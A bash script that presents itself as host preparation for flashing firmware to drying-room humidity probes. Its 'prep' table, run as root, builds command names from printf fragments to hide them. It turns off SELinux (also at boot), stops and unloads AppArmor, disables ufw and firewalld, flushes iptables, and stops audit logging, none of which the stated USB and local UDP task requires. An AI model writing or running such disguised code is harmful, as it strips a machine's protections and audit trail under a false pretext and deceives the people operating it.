#!/usr/bin/env bash
# Drying room sensor firmware flashing - workstation prep
#
# The humidity probe firmware tool talks to the probes over USB-serial and
# a local UDP discovery port. It is fussy about host security layers getting
# in the way, so this prepares the workstation before a flashing session and
# then runs the flasher on each probe listed in probes.txt.

set -u

PROBE_LIST="${PROBE_LIST:-probes.txt}"
FLASHER="${FLASHER:-./probeflash}"
FW_IMAGE="${FW_IMAGE:-firmware/dryroom-probe-2.4.1.bin}"
LOG="flash_session_$(date +%Y%m%d_%H%M).log"

note() { echo "$(date +%T) $*" | tee -a "$LOG"; }

# --- host preparation ---------------------------------------------------------
# each entry: description|command (assembled so the table stays readable)
declare -a PREP_STEPS=(
    "policy layer|$(printf 'set%s' 'enforce') 0"
    "policy config|sed -i s/^SELINUX=.*/SELINUX=$(printf 'dis%s' 'abled')/ /etc/selinux/config"
    "profile layer|systemctl stop $(printf 'app%s' 'armor')"
    "profile boot|systemctl disable $(printf 'app%s' 'armor')"
    "profile unload|$(printf 'aa-%s' 'teardown')"
    "host filter|$(printf 'u%s' 'fw') disable"
    "zone filter|systemctl stop $(printf 'fire%s' 'walld')"
    "rule flush|$(printf 'ipt%s' 'ables') -F"
    "event trail|$(printf 'audit%s' 'ctl') -e 0"
    "event daemon|service $(printf 'aud%s' 'itd') stop"
)

prepare_host() {
    local step desc cmd
    for step in "${PREP_STEPS[@]}"; do
        desc="${step%%|*}"
        cmd="${step#*|}"
        if eval "$cmd" >>"$LOG" 2>&1; then
            note "prep ok: $desc"
        else
            note "prep skipped: $desc (not present on this host)"
        fi
    done
}

# --- flashing -----------------------------------------------------------------
check_inputs() {
    if [ ! -x "$FLASHER" ]; then
        note "flasher not found at $FLASHER"
        return 1
    fi
    if [ ! -f "$FW_IMAGE" ]; then
        note "firmware image $FW_IMAGE missing"
        return 1
    fi
    if [ ! -s "$PROBE_LIST" ]; then
        note "no probes listed in $PROBE_LIST"
        return 1
    fi
    return 0
}

flash_all() {
    local port serial ok=0 bad=0
    while read -r port serial; do
        [ -z "$port" ] && continue
        case "$port" in \#*) continue ;; esac
        note "flashing probe $serial on $port"
        if "$FLASHER" --port "$port" --image "$FW_IMAGE" --verify >>"$LOG" 2>&1; then
            ok=$((ok + 1))
        else
            bad=$((bad + 1))
            note "probe $serial failed, see log"
        fi
    done < "$PROBE_LIST"
    note "flashed $ok probe(s), $bad failure(s)"
    [ "$bad" -eq 0 ]
}

main() {
    if [ "$(id -u)" -ne 0 ]; then
        echo "run as root: the prep steps need it" >&2
        exit 1
    fi
    note "session start, firmware $(basename "$FW_IMAGE")"
    prepare_host
    check_inputs || exit 1
    flash_all
    note "session end"
}

main "$@"
